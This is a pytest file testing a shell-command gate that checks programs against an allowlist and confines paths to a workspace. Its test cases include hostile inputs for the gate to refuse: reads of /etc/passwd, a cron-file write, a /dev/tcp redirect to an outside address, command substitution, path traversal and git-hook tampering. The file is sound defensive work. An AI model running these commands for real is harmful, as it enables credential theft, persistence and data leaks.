"""A whole line: its programs by the allowlist, its paths by the workspace, and what then runs."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from reading import PARSER

from proxy.authorization.lines import Line, LineJudge
from proxy.authorization.paths.workspace import Workspace
from proxy.authorization.programs.allowlist import Allowlist
from proxy.decision import Allow, Decision, Deny
from proxy.reasons import Reason

ALLOWED = ("ls", "cat", "grep", "wc", "echo", "sort", "npm")


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    folder = tmp_path / "workspace"
    (folder / "src" / "deep").mkdir(parents=True)
    for name in ("a.txt", "b.txt", ".hidden", "src/c.py", "src/d.py"):
        (folder / name).touch()
    opened = Workspace.open(str(folder), (), only=True)
    yield opened
    opened.close()


def judge(workspace: Workspace | None, *allowed: str, bash: bool = False) -> LineJudge:
    return LineJudge(PARSER, Allowlist(allowed or ALLOWED), workspace, bash)


async def verdict(
    workspace: Workspace | None, line: str, *, mounted: bool = True
) -> Decision[Line]:
    return await judge(workspace).judge(line, mounted=mounted)


async def refused(workspace: Workspace | None, line: str) -> tuple[Reason, str, str | None]:
    """Reason, evidence and rule of a denial."""
    decision = await verdict(workspace, line)
    assert isinstance(decision, Deny), decision
    return decision.reason, decision.evidence, decision.facts.get("rule")


@pytest.mark.parametrize("line", [None, 1, ["ls"], {"a": "ls"}])
async def test_a_line_is_a_text(workspace: Workspace, line: object) -> None:
    decision = await judge(workspace).judge(line, mounted=True)  # type: ignore[arg-type]

    assert decision == Deny(Reason.ARGUMENTS_INVALID)


# What runs


async def test_a_plain_call_runs_as_its_own_vector(workspace: Workspace) -> None:
    assert await verdict(workspace, "grep 'a b' src") == Allow(
        Line(("grep", "a b", "src"), plain=True)
    )


@pytest.mark.parametrize("line", ["ls | wc -l", "ls && cat a.txt", "ls >new.txt", "LANG=C ls"])
async def test_every_other_line_goes_to_a_shell_as_it_was_sent(
    workspace: Workspace, line: str
) -> None:
    assert await verdict(workspace, line) == Allow(Line(("sh", "-c", line), plain=False))


async def test_it_goes_to_the_shell_that_it_was_judged_for(workspace: Workspace) -> None:
    line = "[[ -f a.txt ]] && ls"

    decision = await judge(workspace, bash=True).judge(line, mounted=True)

    assert decision == Allow(Line(("bash", "-c", line), plain=False))
    assert await verdict(workspace, line) == Deny(Reason.COMMAND_UNPARSABLE)


async def test_what_an_allowed_program_may_do_is_noted(workspace: Workspace) -> None:
    decision = await verdict(workspace, "npm test && npm test")

    assert isinstance(decision, Allow)
    assert decision.value.note == "npm test: runs the project's own code"


# Which programs


@pytest.mark.parametrize(
    "line",
    [
        *("id", "ls; id", "ls | id", "ls && id", "if ls; then id; fi", "for x in a; do id; done"),
        *("(id)", "f() { id; }; ls", "case a in a) id;; esac", "while ls; do id; done", "ls & id"),
    ],
)
async def test_every_program_must_be_allowed(workspace: Workspace, line: str) -> None:
    assert await refused(workspace, line) == (
        Reason.COMMAND_NOT_ALLOWED,
        "id",
        "autonomy.allowed_commands",
    )


async def test_an_empty_allowlist_lets_nothing_run(workspace: Workspace) -> None:
    nobody = LineJudge(PARSER, Allowlist(()), workspace)

    assert await nobody.judge("ls", mounted=True) == Deny(Reason.COMMAND_NOT_ALLOWED)


async def test_a_line_that_is_refused_names_the_rule(workspace: Workspace) -> None:
    assert await refused(workspace, "ls $(id)") == (
        Reason.COMMAND_UNKNOWABLE,
        "",
        "autonomy.allowed_commands",
    )


# Which paths


@pytest.mark.parametrize(
    ("line", "evidence"),
    [
        ("cat /etc/passwd", "/etc/passwd"),
        ("cat a.txt ../x", "../x"),
        ("ls | cat /etc/passwd", "/etc/passwd"),
        ("ls >/etc/cron.d/x", "/etc/cron.d/x"),
        ("ls >../x", "../x"),
        ("cat <../x", "../x"),
        ("ls >/dev/null/../../etc/x", "/dev/null/../../etc/x"),
        ("ls >/dev/tcp/1.2.3.4/80", "/dev/tcp/1.2.3.4/80"),
        ("ls >away/x", "away/x"),
        ("cd .. && ls", ".."),
        ("cd src; cat ../../x", "../../x"),
        ("cd src && cat ../../x", "../../x"),
        ("cd src/deep; cat ../../x", "../../x"),
        ("cd src && cd .. && cat ../x", "../x"),
        ("cd src && ls >../../x", "src/../../x"),
        ("x=/etc/passwd; cat $x", "/etc/passwd"),
        ("for x in a.txt ../x; do cat $x; done", "../x"),
        ("cat src/../../x", "src/../../x"),
        ("cd away && ls", "away"),
        ("cat away/*", "away/*"),
    ],
)
async def test_no_path_leads_out(workspace: Workspace, line: str, evidence: str) -> None:
    (Path(workspace.folder) / "away").symlink_to("/etc")

    reason, word, rule = await refused(workspace, line)

    assert (reason, word) in {
        (Reason.PATH_OUTSIDE_WORKSPACE, evidence),
        (Reason.COMMAND_UNKNOWABLE, evidence),
    }
    assert rule in {"autonomy.workspace_dir", "autonomy.allowed_commands"}


@pytest.mark.parametrize(
    "line",
    [
        *(
            "cat a.txt new.txt",
            "cat src/../a.txt",
            "cd src && cat ../a.txt",
            "cd src && cat c.py >../new",
        ),
        *("cat /workspace/a.txt", "cd /workspace/src && cat c.py", "ls >/workspace/src/new"),
        *(
            "cd src && cat /workspace/a.txt",
            "cat <a.txt",
            "ls 2>/dev/null",
            "cd src/deep && cat ../../a.txt",
        ),
        *('for x in a.txt b.txt; do wc -l "$x" >>out; done', "cat <<'E'\n/etc/passwd\nE", "true"),
    ],
)
async def test_what_stays_inside_is_allowed(workspace: Workspace, line: str) -> None:
    assert isinstance(await verdict(workspace, line), Allow)


async def test_only_in_a_sandbox_the_workspace_is_at_its_mount(workspace: Workspace) -> None:
    for line in ("cat /workspace/a.txt", "ls >/workspace/x", "cat /workspace/*.txt"):
        assert isinstance(await verdict(workspace, line, mounted=True), Allow)
        assert isinstance(await verdict(workspace, line, mounted=False), Deny)


async def test_without_a_workspace_no_command_runs() -> None:
    for line in ("ls", "ls | wc", "ls *", "true"):
        assert await verdict(None, line) == Deny(Reason.WORKSPACE_MISSING)
    assert await verdict(None, "id") == Deny(Reason.COMMAND_NOT_ALLOWED)


# Patterns


@pytest.mark.parametrize(
    ("line", "argv"),
    [
        ("ls *.txt", ("ls", "a.txt", "b.txt")),
        ("ls src/*.py -l", ("ls", "src/c.py", "src/d.py", "-l")),
        ("ls *", ("ls", "a.txt", "b.txt", "src")),
        ("ls *.none", ("ls", "*.none")),
        ("echo http://example.com/a?b=c", ("echo", "http://example.com/a?b=c")),
        ("ls ?.txt '*'", ("ls", "a.txt", "b.txt", "*")),
        ("ls /workspace/*.txt", ("ls", "/workspace/a.txt", "/workspace/b.txt")),
    ],
)
async def test_the_patterns_of_a_plain_call_are_replaced_by_what_was_judged(
    workspace: Workspace, line: str, argv: tuple[str, ...]
) -> None:
    assert await verdict(workspace, line) == Allow(Line(argv, plain=True))


@pytest.mark.parametrize("line", ["ls *", "ls -- *", "ls ?-x", "ls src/*.py *"])
async def test_no_file_becomes_an_option(workspace: Workspace, line: str) -> None:
    (Path(workspace.folder) / "--x").touch()

    assert (await refused(workspace, line))[0] is Reason.COMMAND_UNKNOWABLE


@pytest.mark.parametrize(
    ("line", "led"),
    [
        ("ls * | wc", "ls ./* | wc"),
        ("ls *.txt 'é' [a]* >x", "ls ./*.txt 'é' ./[a]* >x"),
        ("echo é <<< é | ls ?.txt", "echo é <<< é | ls ./?.txt"),
        ('for x in *.txt; do wc "$x"; done', 'for x in ./*.txt; do wc "$x"; done'),
        ("cd src && ls *", "cd src && ls ./*"),
    ],
)
async def test_where_a_shell_looks_for_files_none_becomes_an_option(
    workspace: Workspace, line: str, led: str
) -> None:
    """Not even one that the line itself makes before."""
    assert await verdict(workspace, line) == Allow(Line(("sh", "-c", led), plain=False))


@pytest.mark.parametrize("line", ["ls * | wc", 'for x in *; do ls "$x"; done', "ls; ls ?.txt"])
async def test_a_line_that_must_go_up_unchanged_has_no_bare_pattern(
    workspace: Workspace, line: str
) -> None:
    assert isinstance(await verdict(workspace, line, mounted=False), Deny)


@pytest.mark.parametrize("line", ["ls -*; ls", "ls ''* | wc", 'ls; ls ""?'])
async def test_a_pattern_that_may_still_name_an_option_is_refused(
    workspace: Workspace, line: str
) -> None:
    assert (await refused(workspace, line))[0] is Reason.COMMAND_UNKNOWABLE


@pytest.mark.parametrize(
    "line", ["ls ./* | wc", "cat src/*.py | wc -l", 'for x in src/*.py; do wc "$x"; done']
)
async def test_a_pattern_that_begins_with_a_name_may_stand_anywhere(
    workspace: Workspace, line: str
) -> None:
    assert isinstance(await verdict(workspace, line), Allow)


async def test_what_a_pattern_finds_now_is_judged_too(workspace: Workspace) -> None:
    (Path(workspace.folder) / "src" / "out").symlink_to("/etc/passwd")

    for line in ("cat src/*", "cat src/* | wc", "cd src && cat ./* | wc"):
        assert (await refused(workspace, line))[0] is Reason.PATH_OUTSIDE_WORKSPACE


async def test_a_pattern_that_finds_too_much_is_refused(workspace: Workspace) -> None:
    for number in range(1100):
        (Path(workspace.folder) / f"{number}.log").touch()

    assert (await refused(workspace, "ls *.log"))[0] is Reason.COMMAND_UNKNOWABLE


def test_an_argument_begins_in_the_folder_of_its_call(workspace: Workspace) -> None:
    outside = Reason.PATH_OUTSIDE_WORKSPACE

    for word, folder, reason in (
        ("../a.txt", "src", None),
        ("../a.txt", ".", outside),
        ("../../a.txt", "src", outside),
        ("--file=../../x", "src", outside),
        ("-f../x", "src", None),
        ("/workspace/a.txt", "src", None),
        ("a.txt", "/workspace/src", None),
        ("../../x", "/workspace/src", outside),
        ("~/x", "src", outside),
    ):
        assert workspace.check_argument(word, folder=folder) is reason, word


async def test_a_script_that_is_listed_by_its_path_is_one_of_the_workspace(
    workspace: Workspace,
) -> None:
    judged = judge(workspace, "./run", "src/out")
    (Path(workspace.folder) / "run").touch()
    (Path(workspace.folder) / "src" / "out").symlink_to("/bin/sh")

    assert await judged.judge("./run a", mounted=True) == Allow(Line(("./run", "a"), plain=True))
    assert await judged.judge("src/out", mounted=False) == Deny(Reason.PATH_OUTSIDE_WORKSPACE)
    assert await judged.judge("run a", mounted=True) == Deny(Reason.COMMAND_NOT_ALLOWED)


@pytest.mark.parametrize(
    "line",
    [
        *("cp a.txt .git/config", "mv a.txt .git", "cat a.txt | tee .git/config"),
        *("sed -i s/a/b/ .git/config", "ln -sfn src .git", "cp -t .git/hooks a.txt"),
        *("cp a.txt src/.git/config", "cp a.txt .GIT/config", "cd .git && cp ../a.txt config"),
        *("touch .git/x", "mkdir .git", "dd if=a.txt of=.git/config", "git mv a.txt .git/config"),
    ],
)
async def test_no_command_is_given_git_s_own_files_to_change(
    workspace: Workspace, line: str
) -> None:
    """What stands there is run with the next command of git."""
    (Path(workspace.folder) / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    listed = ("cp", "mv", "cat", "tee", "sed", "ln", "touch", "mkdir", "dd", "git")
    decision = await judge(workspace, *listed).judge(line, mounted=True)

    assert isinstance(decision, Deny)
    assert decision.reason in {Reason.PATH_READ_ONLY, Reason.COMMAND_OPTION_NOT_ALLOWED}


@pytest.mark.parametrize(
    "line", ["ls .git", "cat .git/HEAD", "grep -r x .git/refs", "cat .gitignore"]
)
async def test_git_s_own_files_may_be_looked_at(workspace: Workspace, line: str) -> None:
    (Path(workspace.folder) / ".git").mkdir(exist_ok=True)

    assert isinstance(await verdict(workspace, line), Allow)
